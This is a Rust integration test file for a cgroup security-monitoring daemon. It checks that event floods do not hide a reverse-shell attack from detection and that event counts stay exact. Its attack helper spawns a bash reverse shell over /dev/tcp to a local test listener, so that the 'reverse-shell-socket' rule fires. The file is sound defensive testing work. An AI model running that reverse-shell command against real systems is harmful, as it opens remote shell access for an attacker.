//! A flood hides no attack, neither where it is made nor elsewhere, and what it consists of is counted to the last.

#![expect(clippy::unwrap_used, reason = "what fails here is a test")]

use std::collections::BTreeSet;
use std::net::Ipv4Addr;

use coi_tests::routes::PROGRAM;
use coi_tests::{Attacker, Cgroup, Coi, Running, alerts, copy_program, eventually, text};
use serde_json::Value;

/// How many processes flood.
const PRODUCERS: u64 = 4;
/// How much of a flood has been counted when it has begun.
const BEGUN: u64 = 1000;
/// The rule about the attack.
const RULE: &str = "reverse-shell-socket";

/// What the daemon has counted of a cgroup's events: all, and those that were not delivered.
fn counted(coi: &Coi, cgroup: &Cgroup, kinds: impl Fn(&str) -> bool) -> (u64, u64) {
    let (status, watch) = coi.ask(&format!("/v1/watches/{}", cgroup.name()));
    assert_eq!(status, 200, "{watch}");
    let tallies = watch["events"].as_object().unwrap().iter().filter(|(kind, _)| kinds(kind));
    tallies.fold((0, 0), |(all, missing), (_, tally)| {
        let [delivered, lost, throttled] =
            ["delivered", "lost", "throttled"].map(|name| tally[name].as_u64().unwrap());
        (all + delivered + lost + throttled, missing + lost + throttled)
    })
}

/// A shell on a connection, which is used and left.
fn attack(cgroup: &Cgroup) {
    let attacker = Attacker::listen(Ipv4Addr::LOCALHOST);
    let line = attacker.fill("exec 5<>/dev/tcp/HOST/PORT && exec sh <&5 >&5 2>&5");
    let mut shell = cgroup.command(&line).spawn().unwrap();
    attacker.await_shell();
    shell.kill().unwrap();
    shell.wait().unwrap();
}

/// The rules that have fired.
fn fired(coi: &Coi, cgroup: &Cgroup) -> BTreeSet<String> {
    alerts(&coi.audit(&cgroup.name())).map(|alert| text(&alert["rule"]["id"])).collect()
}

fn flood(kind: &str, event: &str) {
    let coi = Coi::new();
    copy_program(PROGRAM, coi.workspace().join("routes"));
    coi.write(".env", "A=1\n");
    let [a, b, idle] = ["a", "b", "idle"].map(|role| Cgroup::make(&format!("{kind}-{role}")));
    coi.daemon().expect_flood(&a.name());
    for cgroup in [&a, &b, &idle] {
        // Nothing is frozen, so that the flood goes on.
        coi.coi(&["monitor", "--cgroup", cgroup.path().to_str().unwrap(), "--detach"]).expect(0);
    }
    let of_kind = |name: &str| name == event;
    // What an attack adds by itself.
    attack(&idle);
    let (own, _) = counted(&coi, &idle, of_kind);

    let (input, hold) = std::io::pipe().unwrap();
    let producers: Vec<_> = (0..PRODUCERS)
        .map(|_| {
            let mut producer = a.command(&format!("exec ./routes flood {kind}"));
            producer.current_dir(coi.workspace()).stdin(input.try_clone().unwrap());
            Running::start(&mut producer)
        })
        .collect();
    eventually("the flood has begun", || counted(&coi, &a, of_kind).0 > BEGUN);
    attack(&b);
    attack(&a);
    drop(hold);
    let done: u64 = producers
        .into_iter()
        .map(|producer| producer.finish().expect(0).text().trim().parse::<u64>().unwrap())
        .sum();

    // Each producer's own start is an exec.
    let starts = if event == "exec" { PRODUCERS } else { 0 };
    assert_eq!(counted(&coi, &a, of_kind).0, done + starts + own);
    assert_eq!(counted(&coi, &b, of_kind), (own, 0));
    assert_eq!(counted(&coi, &b, |_| true).1, 0, "something of B is missing");
    eventually("the attack in A is told", || fired(&coi, &a).contains(RULE));
    eventually("the attack in B is told", || fired(&coi, &b).contains(RULE));
    assert_eq!(fired(&coi, &b), BTreeSet::from([RULE.to_owned()]));

    // The log's last word is the same.
    let last = coi.ask(&format!("/v1/watches/{}", a.name())).1["events"].clone();
    let name = a.name();
    drop(a);
    let summed = || -> Option<Value> {
        let records = coi.audit(&name);
        let last = records.iter().rfind(|record| record["coi"]["record"] == "counts")?;
        Some(last["coi"]["events"].clone())
    };
    eventually("the counts are written down", || summed().is_some());
    assert_eq!(summed().unwrap()[event], last[event]);
}

#[test]
fn of_opens() {
    flood("open", "open");
}

#[test]
fn of_forks() {
    flood("fork", "fork");
}

#[test]
fn of_execs() {
    flood("exec", "exec");
}

#[test]
fn of_datagrams() {
    flood("send", "connect");
}
